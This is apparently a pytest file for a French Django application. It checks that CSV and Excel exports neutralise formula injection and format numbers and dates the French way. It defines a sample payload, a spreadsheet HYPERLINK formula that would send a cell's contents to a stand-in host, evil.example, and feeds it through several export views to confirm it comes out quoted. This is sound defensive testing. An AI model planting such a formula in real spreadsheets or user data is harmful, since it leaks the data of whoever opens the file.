"""Every CSV/Excel export neutralises formula-like text; decimals are French in CSV and
real numbers in Excel."""

import csv
import io
from datetime import date, datetime
from decimal import Decimal
from zoneinfo import ZoneInfo

import openpyxl
import pytest
from django.urls import reverse

from interurps.accounts.models import Role
from interurps.core import exports
from tests.factories import user_with_role

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1;"clic")'


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "\t", "\r"])
def test_formula_prefixes_are_neutralised(prefix):
    assert exports.safe_cell(f"{prefix}1+1") == f"'{prefix}1+1"
    assert exports.csv_value(f"{prefix}1+1") == f"'{prefix}1+1"
    assert exports.xlsx_value(f"{prefix}1+1") == f"'{prefix}1+1"


def test_plain_text_and_numbers_are_untouched():
    assert exports.safe_cell("Nantes") == "Nantes"
    assert exports.safe_cell(-3) == -3
    assert exports.csv_value(-3) == "-3"
    assert exports.xlsx_value(-2.5) == -2.5


def test_csv_values_are_french():
    assert exports.csv_value(12.5) == "12,5"
    assert exports.csv_value(Decimal("1234.50")) == "1234,50"
    assert exports.csv_value(1 / 3) == "0,3333333333"
    assert exports.csv_value(float("nan")) == ""
    assert exports.csv_value(True) == "oui"
    assert exports.csv_value(date(2026, 3, 9)) == "09/03/2026"
    paris = ZoneInfo("Europe/Paris")
    assert exports.csv_value(datetime(2026, 3, 9, 9, 30, tzinfo=paris)) == "09/03/2026 09:30"


def test_csv_decimals_are_not_quoted_so_a_spreadsheet_reads_numbers():
    text = exports.csv_text([["Densité", 12.5, 3]], header=["Libellé", "Valeur", "Nombre"])
    assert text.startswith("\ufeff")
    assert text.lstrip("\ufeff").splitlines()[1] == "Densité;12,5;3"


def test_excel_holds_real_numbers_and_neutralised_text():
    content = exports.xlsx_bytes(
        [exports.Sheet("Feuille", [[EVIL, Decimal("12.5"), 3, 0.25]], header=["a", "b", "c", "d"])]
    )
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    row = next(sheet.iter_rows(min_row=2, values_only=True))
    assert row == ("'" + EVIL, 12.5, 3, 0.25)
    cell = sheet["A2"]
    assert cell.data_type == "s"  # text, not a formula


def _csv_rows(response):
    text = response.content.decode("utf-8").lstrip("\ufeff")
    return list(csv.reader(io.StringIO(text), delimiter=";"))


def _xlsx_values(response, sheet=None):
    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
    worksheet = workbook[sheet] if sheet else workbook.active
    return [v for row in worksheet.iter_rows(values_only=True) for v in row]


@pytest.mark.django_db
class TestEveryExportNeutralises:
    def test_coverage(self, client):
        from interurps.cpts import services
        from interurps.geography.models import Department, Region

        staff = user_with_role(Role.FEDERATION_STAFF)
        services.cpts_create(
            region=Region.objects.get(code="52"),
            name=EVIL,
            main_department=Department.objects.get(code="53"),
            by=staff,
            started_on=date(2020, 1, 6),
        )
        client.force_login(staff)
        url = reverse("cpts:region_coverage", args=["52"])
        cells = [c for row in _csv_rows(client.get(url, {"format": "csv"})) for c in row]
        assert "'" + EVIL in cells
        assert EVIL not in cells
        values = _xlsx_values(client.get(url, {"format": "xlsx"}))
        assert "'" + EVIL in values
        assert EVIL not in values

    def test_event_participants(self, client):
        from interurps.events import services
        from interurps.events.models import Event
        from interurps.organizations.models import Federation

        paris = ZoneInfo("Europe/Paris")
        event = services.event_create(
            federation=Federation.objects.get(region_id="52"),
            kind=Event.Kind.SEMINAR,
            title="Séminaire",
            starts_at=datetime(2030, 5, 6, 9, tzinfo=paris),
            ends_at=datetime(2030, 5, 6, 17, tzinfo=paris),
        )
        services.registration_create(event=event, full_name=EVIL, email="a@exemple.fr")
        client.force_login(user_with_role(Role.FEDERATION_STAFF))
        rows = _csv_rows(client.get(reverse("events:participants_csv", args=[event.pk])))
        assert rows[1][0] == "'" + EVIL
        values = _xlsx_values(client.get(reverse("events:participants_xlsx", args=[event.pk])))
        assert "'" + EVIL in values
        assert EVIL not in values

    def test_activity_counts(self, client):
        from interurps.activities import services
        from interurps.activities.models import MeetingKind, Project
        from interurps.organizations.models import Federation

        federation = Federation.objects.get(region_id="52")
        staff = user_with_role(Role.FEDERATION_STAFF)
        kind = MeetingKind.objects.create(federation=federation, name=EVIL)
        services.meeting_create(
            federation=federation,
            by=staff,
            title="Réunion",
            starts_at=datetime(2025, 3, 1, 10, tzinfo=ZoneInfo("Europe/Paris")),
            kind=kind,
            project=Project.SAS,
        )
        client.force_login(staff)
        url = reverse("activities:activity_counts", args=["52"])
        rows = _csv_rows(client.get(url, {"annee": "2025", "format": "csv"}))
        assert ["'" + EVIL, "1"] in rows
        values = _xlsx_values(client.get(url, {"annee": "2025", "format": "xlsx"}))
        assert "'" + EVIL in values
        assert 1 in values

    def test_diagnostic_excel(self, client):
        client.force_login(user_with_role(Role.FEDERATION_STAFF))
        response = client.get(
            reverse("diagnostics:territory"),
            {"codes": "53130 53062", "label": EVIL, "format": "xlsx"},
        )
        assert response.status_code == 200
        values = _xlsx_values(response, "Indicateurs")
        assert f"Diagnostic — {EVIL}" in values  # does not start with "=": left as is
        communes = _xlsx_values(response, "Communes")
        assert all(not (isinstance(v, str) and v.startswith("=")) for v in communes)
        assert any(isinstance(v, int) and v > 1000 for v in communes)  # populations
